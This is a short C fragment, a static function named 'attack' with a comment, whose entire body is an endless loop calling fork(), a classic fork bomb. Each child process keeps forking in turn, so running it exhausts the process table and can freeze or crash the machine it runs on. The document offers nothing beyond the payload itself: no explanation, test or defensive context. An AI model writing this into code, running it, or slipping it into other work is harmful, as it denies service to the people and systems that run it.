/* Forks without end, each child as well. */
static void attack(void)
{
    for (;;)
        fork();
}
